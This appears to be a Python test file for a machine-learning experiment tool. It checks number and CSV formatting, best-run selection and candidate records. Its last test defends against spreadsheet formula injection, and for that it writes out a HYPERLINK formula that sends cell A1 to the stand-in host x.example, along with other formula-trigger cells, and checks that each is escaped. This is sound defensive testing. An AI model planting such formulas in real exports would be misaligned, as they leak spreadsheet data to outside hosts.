"""The one home of each small rule: how numbers and cells are written, how runs pick their best, what a row holds."""

import csv
import io

from agentarch import formats
from agentarch.evaluation import dedup
from agentarch.evaluation.candidate import candidate_row
from agentarch.store.summaries import best_by_validation, status_counts


def test_numbers_are_written_one_way_whatever_the_medium():
    assert formats.accuracy(0.91234) == "0.9123" and formats.accuracy(91.234, in_percent=True) == "91.23"
    assert formats.percent(0.91234) == "91.23%"
    assert formats.count(1234567) == "1,234,567"
    assert formats.seconds(12.345) == "12.3 s" and formats.tenths(12.345) == "12.3"
    assert formats.usd(0.01234) == "$0.0123"
    assert formats.text(7) == "7"
    for write in (formats.accuracy, formats.percent, formats.count, formats.seconds, formats.usd, formats.text):
        assert write(None) == "-" and write(None, "n/a") == "n/a"


def test_structured_values_are_one_json_cell():
    assert formats.cell([1, 2]) == "[1, 2]" and formats.cell({"lr": 0.1}) == '{"lr": 0.1}'
    assert formats.cell(3) == 3 and formats.cell(None) is None
    stream = io.StringIO()
    formats.write_csv(stream, [{"id": 1, "parents": [4, 5], "hparams": {"lr": 0.1}}], ["id", "parents", "hparams"])
    assert list(csv.DictReader(io.StringIO(stream.getvalue()))) == [
        {"id": "1", "parents": "[4, 5]", "hparams": '{"lr": 0.1}'}
    ]


def test_the_best_is_chosen_by_validation_and_the_earliest_wins_a_tie():
    rows = [("a", None), ("b", 0.7), ("c", 0.9), ("d", 0.9), ("e", 0.1), ("f", 0.1)]
    assert best_by_validation(rows, lambda row: row[1], "max") == ("c", 0.9)
    assert best_by_validation(rows, lambda row: row[1], "min") == ("e", 0.1)  # an MSE: the lowest, the first of two
    assert best_by_validation([("a", None)], lambda row: row[1], "min") is None
    assert status_counts(["trained", "invalid", "trained"]) == {"trained": 2, "invalid": 1}


def test_a_candidate_row_carries_its_identity_and_text_hash():
    code = "x = 1\n"
    row = candidate_row(run_id="r", task="digits", name="a.py", proposer="user", code=code, parents=(3,))
    assert row == {
        "run_id": "r",
        "task": "digits",
        "name": "a.py",
        "proposer": "user",
        "parents": [3],
        "code": code,
        "text_hash": dedup.whitespace_hash(code),
        "space": None,
        "arch": None,
    }


def test_a_score_reads_as_its_metric_and_says_which_it_is():
    assert formats.scored("val", 0.99166, "accuracy") == "val 0.9917"
    assert formats.scored("test", 1234.5678, "mse") == "test mse 1235"
    assert formats.scored("val", 0.012345, "mae") == "val mae 0.01235"
    assert formats.scored("val", 2.71828, "bits_per_byte") == "val bits_per_byte 2.718"
    assert formats.score(None, "mse") == "-" and formats.score(0.5, "r2") == "0.5000"


def test_csv_cells_a_spreadsheet_would_run_open_as_text():
    stream = io.StringIO()
    rows = [
        {"name": '=HYPERLINK("http://x.example/?"&A1,"click")', "val": -0.5, "note": "+1", "who": "@cmd"},
        {"name": "\tTAB", "val": 0.25, "note": "-2+3", "who": "\rCR"},
        {"name": "plain", "val": None, "note": "a=b", "who": ["x"]},
    ]
    formats.write_csv(stream, rows, ["name", "val", "note", "who"])
    read = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert [r["name"] for r in read] == ['\'=HYPERLINK("http://x.example/?"&A1,"click")', "'\tTAB", "plain"]
    assert [r["note"] for r in read] == ["'+1", "'-2+3", "a=b"]
    assert [r["who"] for r in read] == ["'@cmd", "'\rCR", '["x"]']
    assert [r["val"] for r in read] == ["-0.5", "0.25", ""]  # numbers stay numbers, negative ones too
